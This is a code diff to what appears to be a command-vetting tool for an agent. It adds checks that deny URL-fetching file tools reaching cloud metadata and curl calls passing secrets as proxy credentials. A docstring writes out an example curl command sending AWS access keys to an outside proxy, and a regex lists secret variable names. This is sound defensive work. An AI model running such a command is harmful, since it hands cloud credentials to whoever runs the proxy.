@@ -187,6 +187,12 @@ def browser(run: "Run", inv: "Invocation") -> list[Finding]:
     return found + run.taxonomy(inv)
 
 
+def url_reader(run: "Run", inv: "Invocation") -> list[Finding]:
+    """xmllint, xsltproc, ffprobe …: a URL given where a file is expected is fetched (a metadata URL denies)."""
+    reached = metadata_reached(inv)
+    return [reached] if reached is not None else run.taxonomy(inv)
+
+
 def _acting_urls(inv: "Invocation") -> list[Finding]:
     """URLs whose GET acts (a CI trigger, ?action=UNLOAD&deleteIndex=true): web.acting_get."""
     out = []
@@ -209,6 +215,9 @@ def curl(run: "Run", inv: "Invocation") -> list[Finding]:
     if shared is not None:
         return [shared]
     findings = exfiltration(run, inv, _UPLOAD_OPTIONS.get(tool, set())) + _acting_urls(inv)
+    proxied = _proxy_credentials(inv)
+    if proxied is not None:
+        return [proxied]
     words = inv.words
     outputs = _OUTPUT_OPTIONS.get(tool, {})
     i = 0
@@ -246,6 +255,44 @@ def curl(run: "Run", inv: "Invocation") -> list[Finding]:
                              f"collects requests (exfiltration)", "secrets", "net.exfiltration"))
     best = worst(findings)
     return [best] if best else []
+
+
+_PROXY = ("-x", "--proxy", "--preproxy", "--socks5", "--socks5-hostname", "--socks4", "--socks4a")
+_PROXY_USER = ("-U", "--proxy-user")
+
+
+def _proxy_credentials(inv: "Invocation") -> Finding | None:
+    """`curl -x http://proxy.elsewhere:3128 -U "$AWS_ACCESS_KEY_ID:$AWS_SECRET_ACCESS_KEY"`: the proxy's login is
+    sent to the proxy (Proxy-Authorization): secrets given as it leave for whoever runs that proxy."""
+    words = inv.words
+    proxy, users = None, []
+    for i, w in enumerate(words):
+        option, eq, attached = w.value.partition("=")
+        value = Word(attached, w.raw) if eq and option.startswith("--") else \
+            words[i + 1] if i + 1 < len(words) else None
+        if value is None:
+            continue
+        if option in _PROXY or w.value in _PROXY:
+            proxy = value
+        elif option in _PROXY_USER or w.value in _PROXY_USER:
+            users.append(value)
+    if proxy is None:
+        return None
+    m = _URL_HOST.match(proxy.value if "://" in proxy.value else "http://" + proxy.value)
+    host = m.group(1) if m else ""
+    if not host or DYN in host or _private_host(host):
+        return None
+    userinfo = re.match(r"^(?:[a-z0-9+.-]+://)?([^@/]*)@", proxy.raw + proxy.origin, re.I)
+    for w in users + ([Word(userinfo.group(1), userinfo.group(1))] if userinfo else []):
+        text = w.raw + " " + w.origin
+        if _SECRET_VARIABLE.search(text) or _SECRET_LOGIN.search(text) or secret_in_text(text, inv.scope) or \
+                secret_catalog().credential_in(w.value):
+            return deny(f"{inv.name} logs in to the proxy {host} with secrets ({w.raw}): the proxy receives them",
+                        "secrets", "net.exfiltration")
+    return None
+
+
+_SECRET_LOGIN = re.compile(r"\$\{?(?:AWS_\w+|\w*(?:_KEY|_PAT|PASS|PWD)\w*)\b", re.I)
 
 
 # services that record whatever is sent to them: a secret sent there has left for good
